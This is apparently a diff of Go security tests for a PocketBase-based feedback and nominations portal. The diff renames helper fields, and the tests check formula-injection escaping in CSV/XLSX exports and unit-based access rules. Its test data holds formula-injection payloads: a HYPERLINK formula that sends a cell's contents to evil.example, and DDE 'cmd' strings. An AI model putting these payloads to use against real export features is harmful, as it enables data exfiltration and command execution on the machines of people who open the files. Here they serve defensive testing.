@@ -28,16 +28,16 @@ func TestHostile05FormulaInjectionInExports(t *testing.T) {
 	topic := `=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")`
 	message := "+cmd|' /C calc'!A0 – đề xuất đủ dài"
 	service := "@SUM(1+1)*cmd|' /C calc'!A0"
-	rec, err := feedback.Submit(w.app, feedback.Input{Kind: "sang-kien", Topic: topic, Message: message}, "203.0.113.7")
+	rec, err := feedback.Submit(w.App, feedback.Input{Kind: "sang-kien", Topic: topic, Message: message}, "203.0.113.7")
 	if err != nil {
 		t.Fatal(err)
 	}
-	if _, err := feedback.Submit(w.app, feedback.Input{Kind: "hai-long", Rating: "2", Service: service}, "203.0.113.8"); err != nil {
+	if _, err := feedback.Submit(w.App, feedback.Input{Kind: "hai-long", Rating: "2", Service: service}, "203.0.113.8"); err != nil {
 		t.Fatal(err)
 	}
 
 	// CSV.
-	code, body := admintest.Do(w.h, http.MethodGet, "/api/portal/exports/feedback?format=csv", w.tokens[reviewer], "")
+	code, body := admintest.Do(w.H, http.MethodGet, "/api/portal/exports/feedback?format=csv", w.Tokens[reviewer], "")
 	if code != 200 {
 		t.Fatalf("csv: %d %s", code, body)
 	}
@@ -63,7 +63,7 @@ func TestHostile05FormulaInjectionInExports(t *testing.T) {
 	}
 
 	// XLSX: the topic is the string as typed, and no cell is a formula.
-	code, body = admintest.Do(w.h, http.MethodGet, "/api/portal/exports/feedback?format=xlsx", w.tokens[reviewer], "")
+	code, body = admintest.Do(w.H, http.MethodGet, "/api/portal/exports/feedback?format=xlsx", w.Tokens[reviewer], "")
 	if code != 200 {
 		t.Fatalf("xlsx: %d", code)
 	}
@@ -99,9 +99,9 @@ func TestHostile05FormulaInjectionInExports(t *testing.T) {
 
 	// The nominations export too: a unit's achievements.
 	year := time.Now().Year() + 1
-	w.api(t, reporterA, http.MethodPost, "/api/collections/nominations/records", fmt.Sprintf(
+	w.API(t, reporterA, http.MethodPost, "/api/collections/nominations/records", fmt.Sprintf(
 		`{"unit":%q,"year":%d,"nomineeName":"-1+2","nomineeKind":"ca-nhan","requestedForm":"giay-khen","kind":"dot-xuat","achievements":"=1+1 hồ sơ","state":"draft"}`, unitA, year), 200)
-	code, body = admintest.Do(w.h, http.MethodGet, fmt.Sprintf("/api/portal/exports/nominations?year=%d&format=csv", year), w.tokens[reporterA], "")
+	code, body = admintest.Do(w.H, http.MethodGet, fmt.Sprintf("/api/portal/exports/nominations?year=%d&format=csv", year), w.Tokens[reporterA], "")
 	if code != 200 || !strings.Contains(body, "'=1+1 hồ sơ") || !strings.Contains(body, "'-1+2") {
 		t.Fatalf("nominations csv: %d %s", code, body)
 	}
@@ -139,19 +139,19 @@ func TestHostile07NoUnitMeansNothing(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	year := time.Now().Year() + 1
-	w.api(t, reporterA, http.MethodPost, "/api/collections/nominations/records", fmt.Sprintf(
+	w.API(t, reporterA, http.MethodPost, "/api/collections/nominations/records", fmt.Sprintf(
 		`{"unit":%q,"year":%d,"nomineeName":"Lê Thị Hoa","nomineeKind":"ca-nhan","requestedForm":"giay-khen","kind":"dot-xuat","achievements":"Số hóa hồ sơ","state":"draft"}`, unitA, year), 200)
 
-	noUnit := admintest.StaffToken(t, w.app, "unitReporter", "")
+	noUnit := admintest.StaffToken(t, w.App, "unitReporter", "")
 	// A unit that is then deleted: PocketBase empties the account's unit.
-	unitC := admintest.Create(t, w.app, schema.Units, map[string]any{"name": "Đơn vị sẽ giải thể", "kind": "khac", "status": "draft"})
-	orphan := admintest.StaffToken(t, w.app, "unitReporter", unitC.Id)
-	if err := w.app.Delete(unitC); err != nil {
+	unitC := admintest.Create(t, w.App, schema.Units, map[string]any{"name": "Đơn vị sẽ giải thể", "kind": "khac", "status": "draft"})
+	orphan := admintest.StaffToken(t, w.App, "unitReporter", unitC.Id)
+	if err := w.App.Delete(unitC); err != nil {
 		t.Fatal(err)
 	}
 	for name, token := range map[string]string{"no unit": noUnit, "deleted unit": orphan} {
 		for _, format := range []string{"xlsx", "csv"} {
-			code, body := admintest.Do(w.h, http.MethodGet, fmt.Sprintf("/api/portal/exports/nominations?year=%d&format=%s", year, format), token, "")
+			code, body := admintest.Do(w.H, http.MethodGet, fmt.Sprintf("/api/portal/exports/nominations?year=%d&format=%s", year, format), token, "")
 			if code != 403 || !strings.Contains(body, "chưa được gắn với đơn vị nào") || strings.Contains(body, "Lê Thị Hoa") {
 				t.Errorf("%s, %s export: %d %s", name, format, code, body)
 			}
@@ -161,19 +161,19 @@ func TestHostile07NoUnitMeansNothing(t *testing.T) {
 			{"nominations", fmt.Sprintf(`{"unit":"","year":%d,"nomineeName":"X","nomineeKind":"ca-nhan","requestedForm":"giay-khen","kind":"dot-xuat","achievements":"x","state":"draft"}`, year)},
 			{"unitReports", fmt.Sprintf(`{"unit":"","year":%d,"state":"draft","summary":"x"}`, year)},
 		} {
-			if code, body := admintest.Do(w.h, http.MethodPost, "/api/collections/"+c.collection+"/records", token, c.body); code != 403 {
+			if code, body := admintest.Do(w.H, http.MethodPost, "/api/collections/"+c.collection+"/records", token, c.body); code != 403 {
 				t.Errorf("%s creates %s: %d %s", name, c.collection, code, body)
 			}
 		}
 		for _, c := range []string{"nominations", "unitReports"} {
-			if code, body := admintest.Do(w.h, http.MethodGet, "/api/collections/"+c+"/records", token, ""); code != 200 || !strings.Contains(body, `"totalItems":0`) {
+			if code, body := admintest.Do(w.H, http.MethodGet, "/api/collections/"+c+"/records", token, ""); code != 200 || !strings.Contains(body, `"totalItems":0`) {
 				t.Errorf("%s lists %s: %d %s", name, c, code, body)
 			}
 		}
 	}
 
 	// Every rule that names the reporter role requires the unit.
-	all, err := w.app.FindAllCollections()
+	all, err := w.App.FindAllCollections()
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -197,27 +197,27 @@ func TestHostile07NoUnitMeansNothing(t *testing.T) {
 		t.Fatal("migration 1780000900_reporter_unit.go is not registered")
 	}
 	old := `(@request.auth.collectionName = "staff" && @request.auth.role = "unitReporter")`
-	noms, err := w.app.FindCollectionByNameOrId(schema.Nominations)
+	noms, err := w.App.FindCollectionByNameOrId(schema.Nominations)
 	if err != nil {
 		t.Fatal(err)
 	}
 	now := *noms.ListRule
 	legacy := strings.ReplaceAll(now, `"unitReporter" && @request.auth.unit != ""`, `"unitReporter"`)
 	noms.ListRule = &legacy
-	if err := w.app.Save(noms); err != nil {
+	if err := w.App.Save(noms); err != nil {
 		t.Fatal(err)
 	}
-	if err := mig.Up(w.app); err != nil {
+	if err := mig.Up(w.App); err != nil {
 		t.Fatal(err)
 	}
-	noms, _ = w.app.FindCollectionByNameOrId(schema.Nominations)
+	noms, _ = w.App.FindCollectionByNameOrId(schema.Nominations)
 	if *noms.ListRule != now || strings.Contains(*noms.ListRule, old) {
 		t.Errorf("up: %s", *noms.ListRule)
 	}
-	if err := mig.Down(w.app); err != nil {
+	if err := mig.Down(w.App); err != nil {
 		t.Fatal(err)
 	}
-	noms, _ = w.app.FindCollectionByNameOrId(schema.Nominations)
+	noms, _ = w.App.FindCollectionByNameOrId(schema.Nominations)
 	if *noms.ListRule != legacy {
 		t.Errorf("down: %s", *noms.ListRule)
 	}
